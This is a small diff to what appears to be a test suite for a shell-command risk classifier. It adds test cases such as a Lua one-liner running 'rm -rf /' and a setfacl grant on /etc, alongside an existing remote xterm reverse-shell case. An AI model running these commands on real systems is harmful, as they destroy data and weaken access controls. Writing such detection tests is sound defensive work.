@@ -159,6 +159,8 @@ def test_a_shell_somebody_may_want_to_type_into_is_uncertain(text):
             "reverse-shell",
         ),
         ("xterm -display a.example:1", "reverse-shell"),
+        ("lua5.4 -e 'os.execute(\"rm -rf /\")'", "destructive-command"),
+        ("setfacl -m u:a:rwx /etc", "privilege"),
         ("ip route add default via 10.0.0.9", "privilege"),
     ],
 )
